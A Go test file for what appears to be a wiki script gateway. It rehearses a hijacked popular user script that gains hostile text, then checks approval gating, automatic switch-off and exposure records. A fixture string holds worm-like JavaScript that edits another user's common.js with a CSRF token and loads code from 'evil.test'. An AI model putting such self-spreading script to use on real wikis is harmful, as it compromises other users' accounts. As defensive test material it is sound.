package cli

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/google/go-cmp/cmp"

	"sallyport/internal/bus"
	"sallyport/internal/bus/bustest"
	"sallyport/internal/config"
	"sallyport/internal/fakewiki"
	"sallyport/internal/incident"
	"sallyport/internal/registry"
	"sallyport/internal/store"
	"sallyport/internal/store/sqlstore"
	"sallyport/internal/store/storetest/pgtest"
	"sallyport/internal/wiki"
)

// What Mara's script was, and what somebody with her account makes of it: text that looks hostile and goes nowhere.
const (
	popularScript = "User:Mara/tool.js"
	calmText      = "mw.notify( 'calm' );"
	hostileText   = "mw.notify( 'hostile' ); new mw.Api().postWithToken( 'csrf', { action: 'edit', title: 'User:Ira/common.js', appendtext: 'x' } ); " +
		"mw.loader.load( 'https://evil.test/more.js' );"
)

// drill is a wiki with many people, two gateways on one PostgreSQL and one bus, and what the people were really served.
type drill struct {
	*pair
	wiki   *fakewiki.Wiki
	dbs    [2]*sqlstore.Store
	people []string // names
	ids    map[string]int64
	clock  atomic.Int64 // seconds since 1970; it stands until somebody moves it
	gadget string       // the module that the script is in
	truth  map[store.Digest]map[toWhom]bool
}

// toWhom is a person, 0 for nobody, and a minute.
type toWhom struct {
	Person int64
	Minute time.Time
}

const peopleOfDrill = 200

// newDrill begins with everybody running the calm text, which has been read.
func newDrill(t *testing.T, set func(p *parts)) *drill {
	t.Helper()
	r := &drill{pair: &pair{T: t}, ids: map[string]int64{}, truth: map[store.Digest]map[toWhom]bool{}}
	r.clock.Store(time.Now().Unix())
	r.wiki = fakewiki.New(fakewiki.Options{})
	server := httptest.NewServer(r.wiki)
	t.Cleanup(server.Close)
	r.wiki.AddUser("Mara", "a password of a reader")
	for i := range peopleOfDrill {
		name := fmt.Sprintf("Reader %d", i)
		r.people, r.ids[name] = append(r.people, name), r.wiki.AddUser(name, "a password of a reader").ID
		r.readers = append(r.readers, r.login(server.URL, name))
	}
	page, err := r.wiki.Save("User:Mara/tool.gadget", `{ "module": { "pages": [ "`+popularScript+`" ] } }`, "Mara", "")
	r.ok(err)
	r.gadget = registry.ModuleName(page.ID)
	r.save(calmText)
	postgres, broker := pgtest.Start(t), bustest.Start(t)
	for i := range r.gates {
		r.begin(i, server.URL, postgres, broker.Address, set)
	}
	for name, id := range r.ids {
		if name != "Reader 0" {
			r.ok(r.gates[0].registry.SwitchOn(t.Context(), id, page.ID))
		}
	}
	r.until("the calm text is read", func() bool {
		all, err := r.dbs[0].ScriptsNamed(t.Context(), r.site(), []string{popularScript})
		r.ok(err)
		return all[popularScript].State == store.ScriptRead
	})
	return r
}

// begin starts a gateway: what serve does, but for listening.
func (r *drill) begin(i int, wiki, postgres, broker string, set func(p *parts)) {
	r.Helper()
	db, err := sqlstore.Open(r.Context(), postgres)
	r.ok(err)
	r.dbs[i] = db
	log := slog.New(slog.DiscardHandler)
	p := parts{
		wikiURL: wiki, scriptPath: "/w", store: db, suffixes: []string{".gadget"}, log: log, now: r.now, exposure: config.Exposure{Days: 30},
	}
	set(&p)
	gate, err := join(r.Context(), p)
	r.ok(err)
	r.ok(gate.registry.Begin(r.Context(), func(int, int) {}))
	r.gates[i] = gate
	background, err := gate.background(db, bus.Options{Address: broker, Name: fmt.Sprint("gateway ", i)}, config.Analysis{Jobs: 1}, log)
	r.ok(err)
	ctx, stop := context.WithCancel(context.WithoutCancel(r.Context()))
	work, ctx := errgroup.WithContext(ctx)
	work.Go(func() error { return background.run(ctx) })
	work.Go(func() error { return gate.keepFresh(ctx, log) })
	work.Go(func() error { return gate.switches.Run(ctx) })
	work.Go(func() error { return gate.exposure.run(ctx) })
	r.Cleanup(func() {
		stop()
		r.ok(work.Wait())
		r.ok(gate.exposure.close())
		r.ok(db.Close())
	})
}

func (r *drill) now() time.Time { return time.Unix(r.clock.Load(), 0).UTC() }

func (r *drill) site() string { return r.gates[0].registry.Site.ID }

// save is Mara's account.
func (r *drill) save(text string) {
	r.Helper()
	_, err := r.wiki.Save(popularScript, text, "Mara", "")
	r.ok(err)
}

// until waits for what is done beside.
func (r *drill) until(what string, is func() bool) {
	r.Helper()
	for began := time.Now(); !is(); time.Sleep(5 * time.Millisecond) {
		if time.Since(began) > time.Minute {
			r.Fatalf("it does not come about: %s", what)
		}
	}
}

// asks has somebody's browser ask for the script, by its page or in its gadget, and writes down what it got. -1 is nobody's.
func (r *drill) asks(gate, person int, inGadget bool) (text string) {
	r.Helper()
	path := "/w/index.php?action=raw&ctype=text/javascript&title=" + popularScript
	if inGadget {
		path = base + "/load.php?modules=" + r.gadget
	}
	req := httptest.NewRequest(http.MethodGet, "http://wiki.example"+path, nil)
	req.Header.Set("Sec-Fetch-Dest", "script")
	id := store.Nobody
	if person >= 0 {
		id = r.ids[r.people[person]]
		req.Header.Set("Cookie", r.readers[person])
	}
	w := httptest.NewRecorder()
	r.gates[gate].handler.ServeHTTP(w, req)
	for said, whole := range map[string]string{"hostile": hostileText, "calm": calmText} {
		if strings.Contains(w.Body.String(), said) && !strings.Contains(w.Body.String(), "SallyportRefused") {
			if text != "" {
				r.Errorf("two texts in one answer: %s", w.Body.String())
			}
			text = whole
			d := store.DigestOf(whole)
			if r.truth[d] == nil {
				r.truth[d] = map[toWhom]bool{}
			}
			r.truth[d][toWhom{id, r.now().Truncate(time.Minute)}] = true
		}
	}
	return text
}

// everybody asks at one gateway or the other, a minute for every fifty of them, and how many got a text is returned.
func (r *drill) everybody(text string) (got int) {
	r.Helper()
	for i := range r.people {
		if i%50 == 0 {
			r.clock.Add(60)
		}
		for _, inGadget := range []bool{false, true} {
			if r.asks(i%2, i, inGadget) == text {
				got++
			}
		}
	}
	return got
}

// told compares what is remembered with the truth, of every text: the person and the minute, no more and no less.
func (r *drill) told() {
	r.Helper()
	for _, gate := range r.gates {
		r.ok(gate.exposure.close())
	}
	for name, text := range map[string]string{"calm": calmText, "hostile": hostileText} {
		d, kept := store.DigestOf(text), map[toWhom]bool{}
		r.ok(r.dbs[1].EachExposure(r.Context(), r.site(), store.ExposureQuery{Digest: d, To: r.now()}, func(e store.Exposure) error {
			if e.Missed > 0 || e.Title != popularScript {
				r.Errorf("%+v", e)
			}
			for _, p := range e.People {
				kept[toWhom{p, e.Minute}] = true
			}
			return nil
		}))
		if diff := cmp.Diff(len(r.truth[d]), len(kept)); diff != "" {
			r.Errorf("of the %s text: %s", name, diff)
		}
		for k := range kept {
			if !r.truth[d][k] {
				r.Errorf("of the %s text, made up: %v", name, k)
			}
		}
		for k := range r.truth[d] {
			if !kept[k] {
				r.Errorf("of the %s text, not remembered: %v", name, k)
			}
		}
		r.Logf("of the %s text %d persons' minutes are remembered, which is the truth", name, len(kept))
	}
}

// A worm waits in a script that many run: what reviewers have not approved reaches nobody, by its page or in its gadget.
func TestRehearsalWithApprovedTextsAHostileOneReachesNobody(t *testing.T) {
	r := newDrill(t, func(p *parts) { p.approved = config.Approved{Serve: []string{"popular"}, Popular: 10} })
	for _, gate := range r.gates {
		r.ok(gate.approved.book.Begin(t.Context()))
		r.reviews(gate)
	}
	if n := r.everybody(calmText); n != 2*peopleOfDrill {
		t.Errorf("the calm text reaches %d of %d", n, 2*peopleOfDrill)
	}
	r.save(hostileText)
	for i := range r.people {
		if got := r.asks(i%2, i, false); got != calmText {
			t.Fatalf("%s is served %q", r.people[i], got)
		}
	}
	if got := r.asks(0, -1, false); got != calmText {
		t.Errorf("nobody's account is served %q", got)
	}
	r.until("both gateways have seen it", func() bool { return r.knows(0, hostileText) && r.knows(1, hostileText) })
	if n := r.everybody(calmText); n != 2*peopleOfDrill {
		t.Errorf("with the hostile text seen, the calm one reaches %d of %d", n, 2*peopleOfDrill)
	}
	waiting, err := r.gates[1].approved.book.Waiting(t.Context(), 10)
	r.ok(err)
	if len(waiting) != 1 || waiting[0].Digest != store.DigestOf(hostileText) || waiting[0].Author != "Mara" {
		t.Errorf("%+v waits", waiting)
	}
	for path, want := range map[string]string{
		"/import?name=" + popularScript: string(store.DigestOf(calmText)),
		"/import.js?title=" + popularScript + "&digest=" + string(store.DigestOf(hostileText)): "sallyport.deny(",
	} {
		if got := r.fetches(path); !strings.Contains(got, want) || strings.Contains(got, "'hostile'") {
			t.Errorf("%s: %s", path, got)
		}
	}
	r.told()

	reviewer := wiki.User{ID: 1_000_000, Name: "Ira", Rights: []string{"editinterface", "editsitejs"}}
	decide := func(state store.ReviewState) {
		script, err := r.gates[0].registry.Site.Parse(popularScript)
		r.ok(err)
		r.ok(r.gates[0].approved.book.Decide(t.Context(), script, store.DigestOf(hostileText), reviewer, state, "a rehearsal"))
	}
	serve := func(text string) func() bool {
		return func() bool { return r.asks(0, 0, true) == text && r.asks(1, 1, true) == text }
	}
	decide(store.ReviewApproved)
	r.until("both gateways serve it in the gadget, now that it is approved", serve(hostileText))
	decide(store.ReviewRejected)
	r.until("both serve the one before, now that it is rejected after all", serve(calmText))
}

// reviews does beside what serve does for approved texts.
func (r *drill) reviews(gate *joined) {
	ctx, stop := context.WithCancel(r.Context())
	done := make(chan error, 1)
	go func() { done <- gate.approved.run(ctx) }()
	r.Cleanup(func() {
		stop()
		r.ok(<-done)
	})
}

// fetches is what a page of the first person's gets from an address below the base.
func (r *drill) fetches(path string) string {
	req := httptest.NewRequest(http.MethodGet, "http://wiki.example"+base+path, nil)
	req.Header.Set("Cookie", r.readers[0])
	w := httptest.NewRecorder()
	r.gates[0].handler.ServeHTTP(w, req)
	return w.Body.String()
}

// knows says whether a gateway's own copy of the script has a text already.
func (r *drill) knows(gate int, text string) bool {
	pages, err := r.dbs[gate].Pages(r.Context(), r.site(), []string{popularScript})
	r.ok(err)
	return pages[popularScript].Digest == store.DigestOf(text)
}

// The same without approvals: it is served until it has been read, then by no gateway, and it is known to whom it was.
func TestRehearsalWithoutApprovalsAHostileTextIsSwitchedOffEverywhereAndItIsKnownWhomItReached(t *testing.T) {
	r := newDrill(t, func(p *parts) {
		p.breaker = &breakerParts{config.Breaker{Enabled: true, Popular: 10, Gains: []string{"write:other-code", incident.NetworkCode}}}
	})
	if n := r.everybody(calmText); n != 2*peopleOfDrill {
		t.Errorf("the calm text reaches %d of %d", n, 2*peopleOfDrill)
	}
	r.save(hostileText)
	if got := r.asks(0, 0, false); got != hostileText {
		t.Fatalf("who asks first is served %q", got)
	}
	for _, gate := range r.gates { // as one is that a save went through
		gate.registry.Poke()
	}
	var gone [2]time.Time
	turn, reached := 0, 1
	r.until("neither gateway serves it", func() bool {
		gate := turn % 2
		if turn++; turn%20 == 0 {
			r.clock.Add(60)
		}
		page, module := r.asks(gate, turn/2%peopleOfDrill, false), r.asks(gate, turn/2%peopleOfDrill, true)
		switch hostile := page == hostileText || module == hostileText; {
		case hostile && !gone[gate].IsZero():
			t.Fatalf("gateway %d served it no more, and serves it again", gate)
		case page == "" && module == "" && gone[gate].IsZero():
			gone[gate] = time.Now()
		case hostile:
			reached++
		}
		return !gone[0].IsZero() && !gone[1].IsZero()
	})
	off := r.gates[0].switches.Active()
	if len(off) != 1 || off[0].By != incident.Myself || off[0].Target != string(store.DigestOf(hostileText)) || !strings.Contains(off[0].Reason, "gained: can change other people's scripts") {
		t.Fatalf("%+v", off)
	}
	t.Logf("served %d times while it was read; not served %s and %s after the switch was written", reached, gone[0].Sub(off[0].At), gone[1].Sub(off[0].At))
	t.Logf("because: %s", off[0].Reason)
	if n := r.everybody(hostileText); n != 0 {
		t.Errorf("switched off, and served %d times", n)
	}
	for _, gate := range r.gates {
		if len(gate.switches.Active()) != 1 {
			t.Error("a gateway has not heard of it")
		}
	}
	r.told()
	r.answered()
}

// answered asks as an operator does.
func (r *drill) answered() {
	r.Helper()
	a, err := askingOf(r.dbs[0], r.gates[0].client, r.gates[0].registry.Site, 30).Answer(r.Context(), store.ExposureQuery{
		Title: popularScript, Digest: store.DigestOf(hostileText), To: r.now(),
	})
	r.ok(err)
	reached := map[int64]bool{}
	for k := range r.truth[store.DigestOf(hostileText)] {
		reached[k.Person] = true
	}
	if len(a.People) != len(reached) || len(reached) == 0 || a.Nobody != nil || a.Unknown != nil || a.Missed != 0 {
		r.Errorf("%+v, of %d who were reached", a, len(reached))
	}
	for _, p := range a.People {
		if !reached[p.ID] || !slices.Contains(r.people, p.Name) {
			r.Errorf("%+v was not reached", p)
		}
	}
	text, err := json.Marshal(a)
	if err != nil || !strings.Contains(string(text), `"name":"Reader `) {
		r.Errorf("%s (%v)", text, err)
	}
}
